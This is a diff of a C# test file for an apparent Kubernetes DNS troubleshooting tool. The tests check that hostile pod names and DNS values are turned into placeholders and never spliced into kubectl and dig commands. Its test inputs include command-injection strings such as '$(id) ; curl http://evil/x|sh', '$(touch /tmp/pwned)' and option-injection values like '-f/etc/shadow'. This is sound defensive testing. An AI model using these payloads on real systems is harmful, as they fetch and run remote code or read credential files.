@@ -52,8 +52,64 @@ public sealed class CommandQuotingTests
             return true;
         });
 
+    public static TheoryData<int> Corpus => HostileCorpus.Indexes;
+
+    [Theory]
+    [MemberData(nameof(Corpus))]
+    public void No_word_of_a_rendered_command_starts_with_a_dash_unless_the_template_writes_it(int index)
+    {
+        var value = HostileCorpus.Values[index];
+        foreach (var (rule, scope, template) in CommandTemplates())
+        {
+            var facts = scope.Select(t => FactWithEveryString(t, value)).ToArray();
+            var pieces = template.Pieces(facts).ToList();
+            var literalOptions = ShellSyntax.Tokenize(string.Concat(pieces.Select(p => p.Literal ?? " HOLE ")))
+                .Where(w => w.StartsWith('-')).ToHashSet(StringComparer.Ordinal);
+            var rendered = template.Render(facts);
+
+            var injected = ShellSyntax.Tokenize(rendered).Where(w => w.StartsWith('-') && !literalOptions.Contains(w)).ToList();
+            Assert.True(injected.Count == 0, $"{rule}: {rendered}\nwords from a value that start with '-': [{string.Join("] [", injected)}]");
+            Assert.All(pieces.Where(p => p.Value is not null), p => Assert.False(p.Value![0] is '-' or '+' or '@', $"{rule}: value {p.Value}"));
+        }
+    }
+
     [Fact]
-    public void A_poisoned_pod_name_is_one_quoted_word_in_the_command_and_plain_text_elsewhere()
+    public void An_option_as_the_failing_name_of_an_error_message_is_a_placeholder_with_a_note()
+    {
+        var symptom = new ReportedSymptom { Source = "request.symptom", Class = SymptomClasses.ServerUnreachable, Frequency = SymptomFrequencies.Always };
+        var known = KnownValues.From([symptom], "default", "web-1", "-f/etc/shadow", "203.0.113.66:53");
+
+        var check = HypothesisBuilder.Build(Rules, [symptom], [], known).Single(h => h.RuleId == "app-to-kube-dns-unreachable").Checks
+            .Single(c => c.Command.Contains("dig @203.0.113.66", StringComparison.Ordinal));
+
+        Assert.Equal("kubectl exec -n default web-1 -- dig @203.0.113.66 <name> +tries=1", check.Command);
+        Assert.Contains("<name> is left to fill in: the value found there is not a DNS name", check.Why, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("-f/etc/shadow", CommandValueKind.DnsName, false)]
+    [InlineData("-x.example.com", CommandValueKind.DnsName, false)]
+    [InlineData("a.-x.example.com", CommandValueKind.DnsName, false)]
+    [InlineData("+tcp", CommandValueKind.NameOrAddress, false)]
+    [InlineData("@10.0.0.1", CommandValueKind.NameOrAddress, false)]
+    [InlineData("_sip._tcp.example.com.", CommandValueKind.DnsName, true)]
+    [InlineData("10.96.0.10", CommandValueKind.IpAddress, true)]
+    [InlineData("10.96.0.10:53", CommandValueKind.IpAddress, false)]
+    [InlineData("10.96.0.10:53", CommandValueKind.NameOrAddress, true)]
+    [InlineData("[fd00::a]:53", CommandValueKind.NameOrAddress, true)]
+    [InlineData("fd00::a", CommandValueKind.IpAddress, true)]
+    [InlineData("1", CommandValueKind.IpAddress, false)]
+    [InlineData("Shop", CommandValueKind.Namespace, false)]
+    [InlineData("coredns-7d4b9c-x2k4q", CommandValueKind.ObjectName, true)]
+    [InlineData("-coredns", CommandValueKind.ObjectName, false)]
+    [InlineData("configmap/kube-proxy-worker", CommandValueKind.ObjectReference, true)]
+    [InlineData("configmap/-f", CommandValueKind.ObjectReference, false)]
+    [InlineData("-f/kube-proxy", CommandValueKind.ObjectReference, false)]
+    public void A_command_value_is_checked_by_its_kind(string value, CommandValueKind kind, bool fits) =>
+        Assert.Equal(fits, CommandValue.Fits(value, kind));
+
+    [Fact]
+    public void A_poisoned_pod_name_is_a_placeholder_in_the_command_and_plain_text_elsewhere()
     {
         var pod = new CoreDnsPod
         {
@@ -65,9 +121,9 @@ public sealed class CommandQuotingTests
 
         var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");
 
-        const string Quoted = @"'coredns-x $(id) ; curl http://evil/x|sh #  [31m'\'''";
-        Assert.Equal($"kubectl -n kube-system describe pod {Quoted} && kubectl -n kube-system logs {Quoted} --previous --tail=500 --timestamps",
+        Assert.Equal("kubectl -n kube-system describe pod <pod-name> && kubectl -n kube-system logs <pod-name> --previous --tail=500 --timestamps",
             finding.Remediation[0].Command);
+        Assert.EndsWith("(note: <pod-name> is left to fill in: the value found there is not a DNS name or an IP address)", finding.Remediation[0].Summary, StringComparison.Ordinal);
         Assert.Contains("CoreDNS pod coredns-x $(id) ; curl http://evil/x|sh #  [31m' on node", finding.Cause, StringComparison.Ordinal);
         Assert.DoesNotContain(finding.Evidence.SelectMany(e => new[] { e.Source, e.Detail }).Append(finding.Cause), t => t.Any(char.IsControl));
     }
@@ -84,7 +140,7 @@ public sealed class CommandQuotingTests
     }
 
     [Fact]
-    public void A_check_quotes_a_hostile_known_value_and_writes_an_unknown_one_as_a_placeholder()
+    public void A_check_writes_a_hostile_or_an_unknown_known_value_as_a_placeholder()
     {
         var symptom = new ReportedSymptom { Source = "request.symptom", Class = SymptomClasses.ServerUnreachable, Frequency = SymptomFrequencies.Always };
         var known = new KnownValues { Namespace = "shop", Pod = "web-0", Name = "x$(touch /tmp/pwned)'y" };
@@ -92,7 +148,7 @@ public sealed class CommandQuotingTests
         var hypotheses = HypothesisBuilder.Build(Rules, [symptom], [], known);
 
         var commands = hypotheses.Single(h => h.RuleId == "app-to-kube-dns-unreachable").Checks.Select(c => c.Command).ToList();
-        Assert.Contains(@"kubectl exec -n shop web-0 -- dig @<kube-dns-ip> 'x$(touch /tmp/pwned)'\''y' +tries=1", commands);
+        Assert.Contains("kubectl exec -n shop web-0 -- dig @<kube-dns-ip> <name> +tries=1", commands);
     }
 
     [Theory]
